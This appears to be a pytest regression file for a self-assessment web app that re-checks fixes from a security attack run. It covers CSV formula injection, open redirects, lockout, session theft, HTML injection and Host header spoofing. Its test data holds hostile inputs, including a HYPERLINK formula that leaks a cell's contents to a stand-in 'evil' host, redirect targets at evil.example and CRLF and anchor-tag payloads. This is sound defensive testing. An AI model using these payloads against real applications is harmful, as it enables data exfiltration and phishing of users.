"""The findings of an attack run, each performed again: every test here failed before its fix."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import random
import stat
import threading
import time
import tomllib
from html import unescape
from pathlib import Path

import pytest

from selfassess import accounts, assessments, cohorts, store
from selfassess.bank.answers import check_answers
from selfassess.bank.pages import bank_pages
from selfassess.bank.synthetic import random_answers
from selfassess.scoring.engine import score
from tests.conftest import Respondent, csrf_token, form_values, sqlite_only
from tests.test_facilitate import login, world  # noqa: F401  (a fixture)
from tests.test_take_flow import answer_all

FORMULAS = ['=HYPERLINK("http://evil/"&A1,"x")', "+SUM(1+1)", "-2+3", "@SUM(1)", "  =1+1", "\t=1"]


def submitted_in_cohort(app, cohort, organisation: str, text_answer: str) -> str:
    """A provider that joins *cohort*, names itself *organisation*, answers a text question with *text_answer*."""
    client = app.test_client()
    page = client.get(f"/join/{cohort.code}").get_data(as_text=True)
    started = client.post(f"/join/{cohort.code}", data={"csrf_token": csrf_token(page), "lang": "en"})
    respondent = Respondent.__new__(Respondent)
    respondent.client, respondent.token = client, started.headers["Location"].split("/")[2]
    bank = app.extensions["selfassess_catalog"].get("go-international")
    answers = random_answers(bank, random.Random(7), 0.5)
    answers["strategy_aim"] = text_answer
    for page in bank_pages(bank):
        data = form_values({q.id: answers[q.id] for q in page.questions if q.id in answers})
        if page.number == 1:
            data["_organisation"] = organisation
        assert respondent.post_page(page.number, data).status_code == 302
    assert respondent.submit().status_code == 302
    return respondent.token


# 1. CSV formula injection ------------------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_exports_do_not_run_formulas(app, world, formula):  # noqa: F811
    token = submitted_in_cohort(app, world["cohort"], formula, formula)
    client = app.test_client()
    login(client, "owner@agency.eu")
    code = world["cohort"].code
    results = client.get(f"/facilitator/cohorts/{code}/export.csv").get_data().decode("utf-8-sig")
    answers = client.get(f"/facilitator/cohorts/{code}/answers.csv").get_data().decode("utf-8-sig")
    cells = [c for text in (results, answers) for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + formula.strip() in cells  # shown as the text it is (answers are trimmed)
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "@", "\t")) or c.startswith("-2")]
    report = app.test_client().get(f"/r/{token}/report.csv").get_data().decode("utf-8-sig")
    assert all(
        not c.lstrip(" ").startswith(("=", "+", "@", "-")) for row in csv.reader(io.StringIO(report)) for c in row
    )


# 3. a submitted response cannot change ------------------------------------------------------


def test_page_saves_racing_a_submit_never_change_the_scored_answers(app):
    db = store.connect(app.config["SELFASSESS_DATABASE"])
    catalog = app.extensions["selfassess_catalog"]
    bank = catalog.get("go-international")
    for trial in range(30):
        draft = assessments.start(db, bank, "en")
        store.set_organisation(db, draft, f"Race {trial}")
        first = check_answers(bank, random_answers(bank, random.Random(trial), 0.2)).answers
        store.save_answers(db, draft, first)
        other = check_answers(bank, random_answers(bank, random.Random(1000 + trial), 0.9)).answers
        found = assessments.open_by_token(db, catalog, draft.token)
        racer = threading.Thread(
            target=store.save_answers, args=(store.connect(app.config["SELFASSESS_DATABASE"]), draft, other)
        )
        racer.start()
        assessments.submit(db, found)
        racer.join()
        stored = store.load_answers(db, draft.id)
        scores = store.load_scores(db, draft.id)
        assert scores[""]["score"] == score(bank, stored).score, (
            f"trial {trial}: stored answers no longer give the score"
        )
    # And through the web: a save after the submit is refused, the answers stay.
    respondent = Respondent(app.test_client())
    answer_all(respondent, bank, random_answers(bank, random.Random(3), 0.5))
    respondent.submit()
    before = store.load_answers(db, store.get_response(db, respondent.token).id)
    html = respondent.client.get("/").get_data(as_text=True)
    late = respondent.client.post(
        f"/r/{respondent.token}/page/2", data={"csrf_token": csrf_token(html), "strategy_plan": "1"}
    )
    assert late.status_code == 409
    assert store.load_answers(db, store.get_response(db, respondent.token).id) == before


# 4. inputs that gave a 500 ------------------------------------------------------------------


def test_unicode_digits_in_goto_are_a_400(client, respondent):
    html = respondent.get("/page/1").get_data(as_text=True)
    response = client.post(f"/r/{respondent.token}/page/1", data={"csrf_token": csrf_token(html), "action": "goto:²"})
    assert response.status_code == 400


def test_a_crlf_in_next_neither_fails_nor_redirects_away(app, world, caplog):  # noqa: F811
    client = app.test_client()
    html = client.get("/facilitator/login?next=/facilitator/%0d%0aX:1").get_data(as_text=True)
    with caplog.at_level(logging.ERROR):
        response = client.post(
            "/facilitator/login?next=/facilitator/%0d%0aX:1",
            data={"csrf_token": csrf_token(html), "email": "owner@agency.eu", "password": "a long password"},
        )
    assert response.status_code == 302 and response.headers["Location"] == "/facilitator/"
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]
    for target in ("//evil.example/", "/facilitator/../r/x", "https://evil.example/facilitator/"):
        html = client.get("/facilitator/login").get_data(as_text=True)
        client.post("/facilitator/logout", data={"csrf_token": csrf_token(html)})
        response = login_to(client, target)
        assert response.headers["Location"] == "/facilitator/", target


def login_to(client, target: str):
    html = client.get("/facilitator/login").get_data(as_text=True)
    return client.post(
        "/facilitator/login",
        query_string={"next": target},
        data={"csrf_token": csrf_token(html), "email": "owner@agency.eu", "password": "a long password"},
    )


# 5. nobody can lock a facilitator out --------------------------------------------------------


def test_failed_logins_from_one_address_do_not_lock_out_the_user_elsewhere(app, world):  # noqa: F811
    attacker = app.test_client()
    for _ in range(accounts.FREE_FAILURES + 3):
        html = attacker.get("/facilitator/login").get_data(as_text=True)
        attacker.post(
            "/facilitator/login",
            data={"csrf_token": csrf_token(html), "email": "owner@agency.eu", "password": "guess"},
            environ_base={"REMOTE_ADDR": "203.0.113.66"},
        )
    html = attacker.get("/facilitator/login").get_data(as_text=True)
    refused = attacker.post(  # the attacker's address waits, even with the password
        "/facilitator/login",
        data={"csrf_token": csrf_token(html), "email": "owner@agency.eu", "password": "a long password"},
        environ_base={"REMOTE_ADDR": "203.0.113.66"},
    )
    assert refused.status_code == 429
    user = app.test_client()
    html = user.get("/facilitator/login").get_data(as_text=True)
    ok = user.post(
        "/facilitator/login",
        data={"csrf_token": csrf_token(html), "email": "owner@agency.eu", "password": "a long password"},
        environ_base={"REMOTE_ADDR": "198.51.100.7"},
    )
    assert ok.status_code == 302


def test_behind_a_trusted_proxy_the_client_address_is_the_forwarded_one(tmp_path):
    from selfassess.web import create_app

    app = create_app(
        {"SELFASSESS_DATABASE": str(tmp_path / "p.db"), "SECRET_KEY": "t", "SELFASSESS_TRUSTED_PROXIES": 1}
    )
    seen = []
    app.before_request(lambda: seen.append(__import__("flask").request.remote_addr))
    app.test_client().get("/", headers={"X-Forwarded-For": "192.0.2.10"}, environ_base={"REMOTE_ADDR": "10.0.0.1"})
    assert seen == ["192.0.2.10"]


# 6. sessions that can be revoked ------------------------------------------------------------


def test_logout_and_a_new_password_end_captured_sessions(app, world):  # noqa: F811
    victim = app.test_client()
    login(victim, "owner@agency.eu")
    cookie = victim.get_cookie("session").value
    thief = app.test_client()
    thief.set_cookie("session", cookie)
    assert thief.get("/facilitator/").status_code == 200
    html = victim.get("/facilitator/").get_data(as_text=True)
    victim.post("/facilitator/logout", data={"csrf_token": csrf_token(html)})
    assert thief.get("/facilitator/").status_code == 302  # the copied cookie no longer logs in

    login(victim, "owner@agency.eu")
    thief.set_cookie("session", victim.get_cookie("session").value)
    assert thief.get("/facilitator/").status_code == 200
    db = store.connect(app.config["SELFASSESS_DATABASE"])
    accounts.set_password(db, "owner@agency.eu", "another long password")
    assert thief.get("/facilitator/").status_code == 302
    assert victim.get("/facilitator/").status_code == 302


def test_a_login_ends_after_its_absolute_lifetime_however_much_it_is_used(app, world):  # noqa: F811
    client = app.test_client()
    login(client, "owner@agency.eu")
    assert client.get("/facilitator/").status_code == 200
    with client.session_transaction() as session:
        session["logged_in_at"] -= app.config["SELFASSESS_LOGIN_HOURS"] * 3600 + 1
    assert client.get("/facilitator/").status_code == 302


def test_session_cookies_are_secure_unless_turned_off(app, tmp_path):
    from selfassess.web import create_app

    html = app.test_client().get("/")
    assert "Secure" in html.headers["Set-Cookie"]
    plain = create_app(
        {"SELFASSESS_DATABASE": str(tmp_path / "x.db"), "SECRET_KEY": "t", "SELFASSESS_SECURE_COOKIES": "0"}
    )
    assert "Secure" not in plain.test_client().get("/").headers["Set-Cookie"]


# 7. no links planted in charts --------------------------------------------------------------


def test_an_organisation_name_is_text_in_the_dashboard_chart(app, world):  # noqa: F811
    evil = "<a href='https://evil.example'>click</a>"
    token = submitted_in_cohort(app, world["cohort"], evil, "fine")
    db = store.connect(app.config["SELFASSESS_DATABASE"])
    response_id = store.get_response(db, token).id
    client = app.test_client()
    login(client, "owner@agency.eu")
    html = client.get(f"/facilitator/cohorts/{world['cohort'].code}?compare={response_id}").get_data(as_text=True)
    figure = json.loads(unescape(html.split('data-figure="')[1].split('"')[0]))
    names = [trace["name"] for trace in figure["data"]]
    assert "&lt;a href='https://evil.example'&gt;click&lt;/a&gt;" in names
    assert not any("<a" in name for name in names)


# 8. no caching of data ----------------------------------------------------------------------


def test_data_downloads_are_not_cached(app, world):  # noqa: F811
    client = app.test_client()
    token = world["tokens"]["A"]
    for url in (f"/r/{token}/report.json", f"/r/{token}/report.csv", f"/api/responses/{token}"):
        assert client.get(url).headers["Cache-Control"] == "no-store", url
    login(client, "owner@agency.eu")
    code = world["cohort"].code
    for url in (f"/facilitator/cohorts/{code}/export.csv", f"/facilitator/cohorts/{code}/answers.json"):
        assert client.get(url).headers["Cache-Control"] == "no-store", url


# 9. facilitators get no tokens; owners manage co-facilitators --------------------------------


def test_the_owner_removes_a_co_facilitator_and_a_co_facilitator_cannot_add_one(app, world):  # noqa: F811
    code = world["cohort"].code
    co = app.test_client()
    login(co, "co@agency.eu")
    html = co.get(f"/facilitator/cohorts/{code}").get_data(as_text=True)
    assert "Add a co-facilitator" not in html
    added = co.post(
        f"/facilitator/cohorts/{code}/facilitators", data={"csrf_token": csrf_token(html), "email": "other@agency.eu"}
    )
    assert added.status_code == 403
    owner = app.test_client()
    login(owner, "owner@agency.eu")
    html = owner.get(f"/facilitator/cohorts/{code}").get_data(as_text=True)
    unknown = owner.post(
        f"/facilitator/cohorts/{code}/facilitators", data={"csrf_token": csrf_token(html), "email": "nobody@x.eu"}
    )
    assert unknown.status_code == 400 and "There is no facilitator with that e-mail address" in unknown.get_data(
        as_text=True
    )
    assert 'id="co-email"' in unknown.get_data(as_text=True)  # the message is on the form, not a dead end
    removed = owner.post(
        f"/facilitator/cohorts/{code}/facilitators/remove",
        data={"csrf_token": csrf_token(html), "email": "co@agency.eu"},
    )
    assert removed.status_code == 302
    assert co.get(f"/facilitator/cohorts/{code}").status_code == 404


# 10. the Host header is not reflected --------------------------------------------------------


def test_links_never_come_from_an_untrusted_host(app, respondent):
    assert respondent.get("/saved", headers={"Host": "evil.example"}).status_code == 400
    assert "http://localhost/r/" in respondent.get("/saved").get_data(as_text=True)


def test_links_use_the_base_url_when_set(tmp_path):
    from selfassess.web import create_app

    app = create_app(
        {
            "SELFASSESS_DATABASE": str(tmp_path / "b.db"),
            "SECRET_KEY": "t",
            "SELFASSESS_BASE_URL": "https://assess.example.org/",
        }
    )
    respondent = Respondent(app.test_client())
    html = respondent.get("/saved", headers={"Host": "assess.example.org"}).get_data(as_text=True)
    assert f"https://assess.example.org/r/{respondent.token}" in html


# 11. starting again keeps the cohort ---------------------------------------------------------


def test_start_again_from_these_answers_keeps_the_cohort(app, world):  # noqa: F811
    client = app.test_client()
    token = world["tokens"]["A"]
    html = client.get(f"/r/{token}/report").get_data(as_text=True)
    copied = client.post(f"/r/{token}/copy", data={"csrf_token": csrf_token(html)})
    new_token = copied.headers["Location"].split("/")[2]
    db = store.connect(app.config["SELFASSESS_DATABASE"])
    assert store.get_response(db, new_token).cohort_id == world["cohort"].id
    assert cohorts.by_id(db, store.get_response(db, new_token).cohort_id).code == world["cohort"].code


# 12. files and logs --------------------------------------------------------------------------


@sqlite_only
def test_the_database_file_is_private(app):
    mode = stat.S_IMODE(os.stat(app.config["SELFASSESS_DATABASE"]).st_mode)
    assert mode == 0o600


def test_tokens_stay_out_of_the_error_log(tmp_path, caplog):
    from selfassess.web import create_app

    app = create_app({"SELFASSESS_DATABASE": str(tmp_path / "e.db"), "SECRET_KEY": "t"})

    @app.get("/r/<token>/boom")
    def boom(token: str) -> str:
        raise RuntimeError("boom")

    respondent = Respondent(app.test_client())
    with caplog.at_level(logging.ERROR):
        assert respondent.get("/boom").status_code == 500
    assert caplog.records and not any(respondent.token in r.getMessage() for r in caplog.records)


def test_failed_logins_store_bounded_keys(app):
    db = store.connect(app.config["SELFASSESS_DATABASE"])
    accounts.log_in(db, "x" * 900_000 + "@evil.example", "nope", "203.0.113.1", now=time.time())
    longest = db.conn.execute("SELECT MAX(LENGTH(key)) FROM login_failures").fetchone()[0]
    assert longest < 100


# 14. no Werkzeug with the multipart denial of service ----------------------------------------


def test_werkzeug_floor_has_the_multipart_fix():
    project = tomllib.loads((Path(__file__).resolve().parent.parent / "pyproject.toml").read_text())
    floors = {d.split(">=")[0].lower(): d.split(">=")[1] for d in project["project"]["dependencies"] if ">=" in d}
    assert tuple(int(p) for p in floors["werkzeug"].split(".")) >= (3, 0, 6)


# Vetted cohorts (issue 13): only approved organisations form the cohort's peer group.


def test_a_facilitator_approves_each_organisation_of_a_vetted_cohort(app, world):  # noqa: F811
    client = app.test_client()
    login(client, "owner@agency.eu")
    code = world["cohort"].code
    html = client.get(f"/facilitator/cohorts/{code}").get_data(as_text=True)
    assert "Waiting for approval" not in html
    client.post(f"/facilitator/cohorts/{code}/vetting", data={"csrf_token": csrf_token(html), "vetted": "1"})
    html = client.get(f"/facilitator/cohorts/{code}").get_data(as_text=True)
    db = store.connect(app.config["SELFASSESS_DATABASE"])
    ids = [store.get_response(db, world["tokens"][name]).id for name in ("A", "C")]
    assert "Waiting for approval" in html and all(f'name="response" value="{i}"' in html for i in ids)
    for response_id in ids:
        approved = client.post(
            f"/facilitator/cohorts/{code}/approve", data={"csrf_token": csrf_token(html), "response": str(response_id)}
        )
        assert approved.status_code == 302
    assert "Every organisation in the cohort is approved." in client.get(f"/facilitator/cohorts/{code}").get_data(
        as_text=True
    )
    # A response of another cohort (or none) cannot be approved here.
    outsider = store.get_response(db, world["tokens"]["B"]).id
    refused = client.post(
        f"/facilitator/cohorts/{code}/approve", data={"csrf_token": csrf_token(html), "response": str(outsider)}
    )
    assert refused.status_code == 404
    assert cohorts.is_vetted(db, world["cohort"])
